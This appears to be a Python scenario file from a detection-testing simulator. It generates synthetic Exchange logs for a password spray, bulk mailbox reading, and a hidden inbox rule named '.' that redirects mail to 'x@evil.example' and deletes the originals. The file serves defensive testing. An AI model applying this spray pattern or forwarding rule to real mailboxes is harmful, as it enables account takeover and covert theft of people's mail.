"""A password spray finds one password; the mailbox is read and a forwarding rule stays."""

from __future__ import annotations

from exward.model.incident import Verdict
from exward.simulate.acts import cmdlets, mail, web, windows
from exward.simulate.acts.cmdlets import Cmdlet
from exward.simulate.acts.mail import Message
from exward.simulate.acts.web import Request
from exward.simulate.acts.windows import Logon
from exward.simulate.world import MINUTE, PEOPLE, SECOND, World

NAME = "spray-to-theft"
TITLE = "Password spray over EWS, mail read in bulk, a forwarding rule"
SERVERS = 1

CLIENT = "203.0.113.7"
AGENT = "python-requests/2.31"
VICTIM = "g.haas"


def play(world: World) -> None:
    """Spray from 01:00, reading from 01:40, the rule at 02:05."""
    host = world.host
    start = world.at("01:00:00")
    for round_ in range(3):
        for number, user in enumerate(PEOPLE):
            time = start + (round_ * 9 * MINUTE) + number * 4 * SECOND
            refused(world, time, user)
    world.expect("initial-access", start, "many accounts tried from one address")
    for number in range(260):
        web.send(world, host, world.at("01:40:00") + number * 4 * SECOND, Request(
            CLIENT, "/EWS/Exchange.asmx", "", "POST", user=f"CONTOSO\\{VICTIM}", agent=AGENT,
            auth="Basic", soap="GetItem" if number % 3 else "FindItem", sent=410_000))  # fmt: skip
    windows.log_on(world, host, world.at("01:39:58"),
                   Logon(VICTIM, CLIENT, 8, windows.WORKER, "Negotiate"))  # fmt: skip
    rule = Cmdlet(
        "New-InboxRule",
        {
            "Name": ".",
            "RedirectTo": "x@evil.example",
            "MarkAsRead": "True",
            "DeleteMessage": "True",
        },
        caller=VICTIM,
        process=cmdlets.ECP,
        client="ECP",
    )
    web.send(world, host, world.at("02:05:00"), Request(
        CLIENT, "/ecp/RulesEditor/InboxRules.svc/NewObject", "", "POST",
        user=f"CONTOSO\\{VICTIM}", agent=AGENT))  # fmt: skip
    cmdlets.run(world, host, world.at("02:05:01"), rule)
    world.expect("collection-exfiltration", world.at("02:05:01"), "rule redirects mail outside")
    for number in range(3):
        mail.transport(
            world,
            host,
            world.at("08:30:00") + number * 20 * MINUTE,
            Message(
                f"{VICTIM}@contoso.example", ("x@evil.example",), "Contract", source="MAILBOXRULE"
            ),
        )
    world.verdicts[host.name] = Verdict.COMPROMISED


def refused(world: World, time: int, user: str) -> None:
    """A wrong password over EWS: IIS, HttpProxy, Security 4625."""
    host = world.host
    web.send(world, host, time, Request(
        CLIENT, "/EWS/Exchange.asmx", "", "POST", status=401, user=f"CONTOSO\\{user}",
        agent=AGENT, auth="Basic", win32=1326))  # fmt: skip
    windows.log_on(world, host, time,
                   Logon(user, CLIENT, 8, windows.WORKER, "Negotiate", "0xc000006a"))  # fmt: skip
